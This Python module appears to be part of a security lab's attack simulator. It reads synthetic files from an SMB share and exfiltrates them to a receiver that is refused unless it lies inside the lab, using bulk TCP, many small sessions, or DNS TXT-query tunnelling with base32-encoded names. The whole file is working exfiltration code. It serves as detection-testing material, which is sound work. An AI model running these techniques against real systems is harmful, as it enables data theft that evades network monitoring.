"""The theft before the damage: files read over SMB from a workstation of the lab and sent out through the gateway.

Comes in: a `Theft` as JSON on standard input. Goes out: one JSON object with what was sent. Three ways: all at once in
one connection; in many small ones; hidden in questions about names. The files are synthetic and few: they are sent
again and again until it comes to what was asked for. The receiver is the lab's own Internet: an address outside the
lab is refused.
"""

from __future__ import annotations

import base64
import itertools
import json
import os
import random
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

import msgspec

from garde.lab.attackers.smb_attack import PASSWORD
from garde.lab.attackers.smb_client import SmbShare, check_lab

CONNECT_S = 5.0
PIECE = 96 * 1024  # of one small connection
PIECE_S = 0.08  # between two of them
LABEL = 60  # characters of a name's part (RFC 1035: 63 at most)
PARTS = 3  # of a name: with the tunnel's own below the 255 that a name may have
QUESTIONS = 32  # sent together; then their answers are waited for, as a tunnel does
ANSWERS_S = 1.0
TUNNEL = b"cdn-sync.invalid"  # RFC 2606: nobody's


class Theft(msgspec.Struct, frozen=True):
    """What is taken, and where it goes."""

    server: str
    share: str
    login: str
    files: int
    seed: int
    to: str  # address of the receiver, in the lab's Internet
    port: int
    way: str = "bulk"  # bulk | sessions | names
    least: int = 0  # bytes; 0: each file once


def send_bulk(place: tuple[str, int], pieces: Iterator[bytes]) -> int:
    """Everything in one connection."""
    sent = 0
    with socket.create_connection(place, CONNECT_S) as line:
        for piece in pieces:
            line.sendall(piece)
            sent += len(piece)
    return sent


def send_sessions(place: tuple[str, int], pieces: Iterator[bytes]) -> int:
    """A small connection for each piece, one after the other."""
    sent = 0
    for piece in pieces:
        for start in range(0, len(piece), PIECE):
            sent += send_bulk(place, iter([piece[start : start + PIECE]]))
            time.sleep(PIECE_S)
    return sent


def send_names(place: tuple[str, int], pieces: Iterator[bytes]) -> int:
    """A question about a name for each few bytes; what counts is what the questions come to."""
    sent = 0
    family = socket.AF_INET6 if ":" in place[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as line:
        line.connect(place)
        line.settimeout(ANSWERS_S)
        for number, data in enumerate(_questions(pieces), 1):
            sent += line.send(data)
            if number % QUESTIONS == 0:
                _hear(line)
    return sent


def _hear(line: socket.socket) -> None:
    with suppress(OSError):  # an answer that was lost: the next ones are waited for
        for _ in range(QUESTIONS):
            line.recv(512)


def _questions(pieces: Iterator[bytes]) -> Iterator[bytes]:
    """Questions of type TXT (RFC 1035), whose names carry the data in base 32."""
    for piece in pieces:
        code = base64.b32encode(piece).rstrip(b"=").lower()
        for number, start in enumerate(range(0, len(code), LABEL * PARTS)):
            part = code[start : start + LABEL * PARTS]
            labels = [part[at : at + LABEL] for at in range(0, len(part), LABEL)] + TUNNEL.split(b".")
            name = b"".join(bytes([len(label)]) + label for label in labels)
            yield (number % 65536).to_bytes(2, "big") + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\x10\0\1"


WAYS: dict[str, Callable[[tuple[str, int], Iterator[bytes]], int]] = {
    "bulk": send_bulk,
    "sessions": send_sessions,
    "names": send_names,
}


def read(share: SmbShare, theft: Theft) -> Iterator[bytes]:
    """The files, in an order of the seed's; over and over, where more is to be sent than they hold."""
    paths = sorted(share.walk())
    random.Random(theft.seed).shuffle(paths)
    took = [share.read(path) for path in paths[: theft.files]]
    if not theft.least:
        yield from took
        return
    left = theft.least
    for data in itertools.cycle(each for each in took if each):
        yield data[:left]
        left -= len(data)
        if left <= 0:
            return


def main() -> int:
    """Read, send, say how much."""
    theft = msgspec.json.decode(sys.stdin.read(), type=Theft)
    check_lab(theft.to)
    with SmbShare(theft.server, theft.share, theft.login, os.environ.get(PASSWORD, "")) as share:
        sent = WAYS[theft.way]((theft.to, theft.port), read(share, theft))
    print(json.dumps({"files": theft.files, "bytes": sent}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
